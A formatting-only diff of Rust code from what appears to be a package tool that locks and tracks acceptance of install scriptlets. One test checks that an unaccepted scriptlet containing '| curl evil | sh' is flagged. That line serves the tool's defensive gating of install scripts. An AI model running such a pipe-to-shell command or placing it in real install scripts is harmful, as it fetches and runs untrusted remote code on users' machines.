@@ -164,11 +164,7 @@ impl Lock {
     /// The scripts of `packages` that the lock has not, or not as accepted.
     /// Those that the recipe wants left out do not count.
     #[must_use]
-    pub fn unaccepted(
-        &self,
-        packages: &[Package],
-        skipped: &[(String, Phase)],
-    ) -> Vec<Unaccepted> {
+    pub fn unaccepted(&self, packages: &[Package], skipped: &[(String, Phase)]) -> Vec<Unaccepted> {
         let accepted: BTreeSet<Digest> =
             self.scriptlets.iter().filter(|one| one.accepted).map(|one| one.sha256).collect();
         let mut found: Vec<Unaccepted> = Vec::new();
@@ -226,7 +222,10 @@ mod tests {
         let first = list(&one, None, &Accept::None).unwrap();
         assert!(first.unaccepted(std::slice::from_ref(&one), &[]).is_empty());
         let shown: Vec<String> = first.scriptlets.iter().map(ToString::to_string).collect();
-        assert!(shown[0].starts_with("kit %post (") && shown[0].ends_with(", native)"), "{shown:?}");
+        assert!(
+            shown[0].starts_with("kit %post (") && shown[0].ends_with(", native)"),
+            "{shown:?}"
+        );
         assert!(shown[1].ends_with(", lua)"), "{shown:?}");
         let text = first.to_string();
         assert_eq!(Lock::parse(&text, Path::new("lock")).unwrap(), first);
@@ -235,7 +234,9 @@ mod tests {
         let waiting = second.unaccepted(std::slice::from_ref(&other), &[]);
         let [only] = &waiting[..] else { panic!("{waiting:?}") };
         assert!(only.to_string().contains("    | curl evil | sh"), "{only}");
-        assert!(text.contains("accepted = true") && second.to_string().contains("accepted = false"));
+        assert!(
+            text.contains("accepted = true") && second.to_string().contains("accepted = false")
+        );
         // Locking again does not accept it.
         let again = list(&other, Some(&second), &Accept::None).unwrap();
         assert_eq!(again.to_string(), second.to_string());
